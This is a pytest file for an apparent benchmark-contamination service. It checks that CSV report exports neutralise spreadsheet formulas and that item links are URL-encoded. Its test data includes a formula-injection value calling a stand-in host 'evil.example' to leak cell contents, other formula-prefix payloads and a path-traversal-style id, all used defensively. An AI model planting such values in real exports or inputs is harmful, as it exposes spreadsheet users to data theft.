"""What leaves the server is safe to open: CSV exports a spreadsheet will not run, item links
that go where they say, security headers on every response, no cross-site writes, a login
cookie that is not the key."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator

import pytest
from conftest import IndexCorpus
from fastapi.testclient import TestClient

from app.api.main import create_app
from app.settings import Settings

Q = "Which river flows through the ancient city of Baghdad and joins the Euphrates near Basra?"
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e"]


@pytest.fixture
def client(migrated_url: str, index_corpus: IndexCorpus) -> Iterator[TestClient]:
    index_corpus(migrated_url, [{"id": "quiz", "text": f"Quiz night! {Q} A. Nile B. Tigris"}])
    with TestClient(create_app(Settings(database_url=migrated_url))) as c:
        yield c


def _report(c: TestClient) -> str:
    rows = "".join(json.dumps({"id": i, "question": Q, "answer": "Tigris"}) + "\n" for i in HOSTILE_IDS)
    rid: str = c.post("/api/v1/benchmarks", files={"file": ("b.jsonl", rows.encode())}).json()["id"]
    for _ in range(200):
        if c.get(f"/api/v1/reports/{rid}").json()["status"] == "done":
            return rid
        time.sleep(0.05)
    raise AssertionError("report did not finish")


def test_csv_export_cannot_run_formulas_and_item_links_are_encoded(client: TestClient) -> None:
    rid = _report(client)
    text = client.get(f"/api/v1/reports/{rid}/export", params={"format": "csv"}).text
    ids = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(ids) == sorted(("'" + i if i[0] in "=+-@\t" else i) for i in HOSTILE_IDS)
    assert all(not i.startswith(("=", "+", "-", "@", "\t")) for i in ids)
    page = client.get("/items", params={"report": rid, "status": ["contaminated", "suspicious", "clean"]}).text
    assert f'href="/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe"' in page
    assert client.get(f"/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe").status_code == 200
